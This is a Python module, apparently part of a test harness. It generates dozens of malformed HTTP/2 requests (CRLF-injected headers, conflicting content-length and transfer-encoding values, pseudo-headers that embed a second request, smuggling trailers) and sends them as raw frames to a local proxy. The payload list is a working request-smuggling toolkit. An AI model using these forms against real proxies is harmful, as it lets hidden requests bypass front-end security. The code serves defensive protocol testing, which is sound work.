"""Requests of HTTP/2 that say something else after a proxy has turned them into HTTP/1.1."""

import socket
import ssl
from pathlib import Path

from .proxies import PORT
from .smuggling import TIMEOUT, Smuggler

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Headers = list[tuple[bytes, bytes]]


def forms_h2(key: str, hidden: bytes) -> list[tuple[str, Headers, bytes, Headers]]:
    """Returns the name, headers, body and trailers of each form."""
    usual: Headers = [
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/api/order/create"),
        (b":authority", b"orders"), (b"authorization", f"Bearer {key}".encode()),
        (b"content-type", b"application/json")]
    smuggled = b"HTTP/1.1\r\nHost: a\r\n\r\n" + hidden

    def replaced(name: bytes, value: bytes) -> Headers:
        return [(key, value if key == name else old) for key, old in usual]

    found = [("plain", usual, hidden, [])]
    for name, value in (
        (b"transfer-encoding", b"chunked"), (b"transfer-encoding", b"identity"),
        (b"Transfer-Encoding", b"chunked"),
        (b"transfer-encoding ", b"chunked"), (b"transfer_encoding", b"chunked"),
        (b"transfer-encoding\r\nx", b"chunked"),
        (b"transfer-encoding: chunked\r\nx", b"x"), (b"x", b"x\r\nTransfer-Encoding: chunked"),
        (b"x", b"x\nTransfer-Encoding: chunked"), (b"x", b"x\rTransfer-Encoding: chunked"),
        (b"x", b"x\0y"),
        (b"x", b"x\r\n\r\n" + hidden), (b"x\r\n\r\n" + hidden, b"x"), (b"x:y", b"z"),
        (b"x y", b"z"), (b"", b"x"),
        (b"x", b" x"), (b"x", b"x\t"), (b"connection", b"close"),
        (b"connection", b"transfer-encoding"),
        (b"upgrade", b"h2c"), (b"keep-alive", b"timeout=9"), (b"proxy-connection", b"keep-alive"),
        (b"te", b"chunked"),
        (b"host", b"other"), (b":path", b"/other"), (b":unknown", b"x"),
        (b"expect", b"100-continue"),
    ):
        found.append((f"{name!r}: {value[:30]!r}, chunks", [*usual, (name, value)],
                      b"0\r\n\r\n" + hidden, []))
    for length in (b"0", b"5", b"-1", b"+5", b"0x5", b"5, 5", b"18446744073709551616", b"", b"99999",
                   str(len(hidden)).encode() + b"\r\nx: y"):
        found.append((f"length {length!r}", [*usual, (b"content-length", length)], hidden, []))
    found.append(("two lengths", [*usual, (b"content-length", b"0"),
                                  (b"content-length", str(len(hidden)).encode())], hidden, []))
    for name, value in (
        (b":method", b"POST /api/order/create " + smuggled), (b":method", b"POST\r\n"),
        (b":method", b"GET"),
        (b":method", b"CONNECT"), (b":method", b"PO ST"), (b":method", b""),
        (b":path", b"/api/order/create " + smuggled), (b":path", b"/api/order/create\r\nx: y"),
        (b":path", b"/api/order/create x"), (b":path", b"/api/order/create\n"),
        (b":path", b"/api/order/create#x"),
        (b":path", b"//other/api/order/create"), (b":path", b"*"), (b":path", b""),
        (b":authority", b"orders\r\nTransfer-Encoding: chunked"), (b":authority", b"a b"),
        (b":authority", b""),
        (b":scheme", b"http"), (b":scheme", b"http://other/x HTTP/1.1\r\nx: y"), (b":scheme", b""),
    ):
        found.append((f"{name!r} {value[:30]!r}", replaced(name, value), hidden, []))
    for name in (b":method", b":scheme", b":path", b":authority"):
        found.append((f"no {name!r}", [pair for pair in usual if pair[0] != name], hidden, []))
    found.append(("pseudo header behind others", usual[1:] + usual[:1], hidden, []))
    for name, value in ((b"content-length", b"0"), (b"transfer-encoding", b"chunked"), (b":path", b"/other"),
                        (b"host", b"other"), (b"x", b"y\r\n\r\n" + hidden)):
        found.append((f"trailer {name!r}", usual, b"{}", [(name, value)]))
    return found


class SmugglerH2(Smuggler):
    """Sends forms as frames of HTTP/2."""

    def __init__(self, key: str, certificate: Path, name: str) -> None:
        super().__init__(key, certificate, name)
        self._context.set_alpn_protocols(["h2"])

    def send_all(self) -> None:
        for number, form in enumerate(forms_h2(self._key, self.hidden(0))):
            name, headers, body, trailers = form
            # Each form hides an order of its own.
            hidden, own = self.hidden(0), self.hidden(number)
            body = body.replace(hidden, own)
            headers, trailers = ([(key.replace(hidden, own), value.replace(hidden, own))
                                  for key, value in pairs] for pairs in (headers, trailers))
            try:
                answer = self._request(headers, body, trailers)
            except OSError as error:
                self.outcome.forms += 1
                self.outcome.faults.append(f"HTTP/2, {name}: {error!r}")
            else:
                self.record(number, f"HTTP/2, {name}", [answer] if answer else [])

    def _request(self, headers: Headers, body: bytes, trailers: Headers) -> tuple | None:
        # These packages are in the virtual environment of Envoy.
        from hpack import Decoder, Encoder
        from hyperframe.frame import (
            DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame)

        encoder, decoder = Encoder(), Decoder()
        data = DataFrame(1, body)
        frames: list[Frame] = [SettingsFrame(0), HeadersFrame(1, encoder.encode(headers)), data]
        frames[1].flags.add("END_HEADERS")
        if trailers:
            frames.append(HeadersFrame(1, encoder.encode(trailers)))
            frames[-1].flags.add("END_HEADERS")
        frames[-1].flags.add("END_STREAM")
        status, found, content, received = 0, {}, b"", b""
        with socket.create_connection(("127.0.0.1", PORT), timeout=TIMEOUT) as plain:
            with self._context.wrap_socket(plain, server_hostname="127.0.0.1") as connection:
                connection.sendall(PREFACE + b"".join(frame.serialize() for frame in frames))
                while True:
                    try:
                        piece = connection.recv(65536)
                    except (ConnectionError, ssl.SSLError):
                        piece = b""
                    if not piece:
                        break
                    received += piece
                    ended = False
                    while len(received) >= 9:
                        frame, length = Frame.parse_frame_header(memoryview(received[:9]))
                        if len(received) < 9 + length:
                            break
                        frame.parse_body(memoryview(received[9:9 + length]))
                        received = received[9 + length:]
                        if isinstance(frame, HeadersFrame):
                            pairs = dict(decoder.decode(frame.data))
                            if int(pairs.get(":status", 0)) >= 200:
                                status, found = int(pairs[":status"]), pairs
                        elif isinstance(frame, DataFrame):
                            content += frame.data
                        ended |= (isinstance(frame, (RstStreamFrame, GoAwayFrame))
                                  or frame.stream_id == 1 and "END_STREAM" in frame.flags)
                    if ended:
                        break
        return (status, found, content) if status else None
